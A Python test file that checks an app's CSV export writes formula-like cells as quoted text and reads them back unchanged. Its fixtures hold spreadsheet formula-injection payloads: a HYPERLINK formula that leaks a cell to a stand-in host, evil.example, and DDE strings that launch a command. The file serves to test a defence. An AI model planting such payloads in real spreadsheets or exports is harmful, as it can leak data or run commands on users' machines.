"""CSV export: a cell a spreadsheet would run as a formula is written as text, and reads back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from influent.domain.platforms import Platform
from influent.services import creators as service
from influent.services.accounts.workspaces import ensure_workspace
from influent.services.core import Influent
from influent.services.imports.creator_import import import_creators
from influent.services.imports.export import export_creators
from influent.sources.spreadsheet.reader import read_sheet
from influent.sources.spreadsheet.writer import write_table
from services.test_export_roundtrip import creator_state

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "notes": "=cmd|' /C calc'!A0",
    "agent": "'=already quoted",
    "category": "+33 6 12 34 56 78",
    "country": "-2+3",
    "language": "\tTab first",
}


def test_it_writes_formula_cells_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    cells = ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", -5, 3.5]
    write_table(path, [f"c{i}" for i in range(len(cells))], [cells])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))[1]
    assert written == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "''=x",
        "'''+x",
        "'plain",
        "plain",
        "-5",
        "3.5",
    ]


@pytest.mark.parametrize("rows", [1, 40_000])  # the csv module, then polars (over 1 MB)
def test_the_reader_takes_the_quote_off_again(tmp_path: Path, rows: int) -> None:
    path = tmp_path / "out.csv"
    cells = ["=1+2", "+1", "-1", "@x", "'=x", "''+x", "'plain", "-5", "@marie"]
    headers = ["name", "a", "b", "c", "d", "e", "f", "g", "instagram"]
    write_table(path, headers, [cells] * rows)
    sheet = read_sheet(path)
    assert sheet.headers == headers
    assert {tuple(cells) for _, cells in sheet.rows} == {
        ("=1+2", "+1", "-1", "@x", "'=x", "''+x", "'plain", "-5", "@marie")
    }


def test_an_exported_csv_shows_no_formula_and_imports_back_the_same(
    influent: Influent, workspace_id: int, tmp_path: Path
) -> None:
    with influent.session() as session:
        service.add_creator(
            session,
            workspace_id=workspace_id,
            name=HOSTILE["name"],
            account=service.NewAccount(Platform.INSTAGRAM, "@marie", 48_000, 0.061),
            fields={k: v for k, v in HOSTILE.items() if k != "name"},
            tags=["=1+1", "@SUM(1+1)*cmd|' /C calc'!A0"],
        )
    original = creator_state(influent, workspace_id)
    exported = tmp_path / "creators.csv"
    with influent.session() as session:
        export_creators(session, workspace_id=workspace_id, path=exported)
    with exported.open(encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in list(csv.reader(handle))[1:] for c in row]
    # Nothing a spreadsheet would evaluate: every such cell starts with a quote.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + HOSTILE["notes"] in cells and "''=already quoted" in cells
    assert "48000" in cells  # a count stays a number
    with influent.session() as session:
        fresh = ensure_workspace(session, name="Round trip").id
    with influent.session() as session:
        report = import_creators(session, workspace_id=fresh, path=exported)
    assert report.problems == [] and report.created == 1
    assert creator_state(influent, fresh) == original
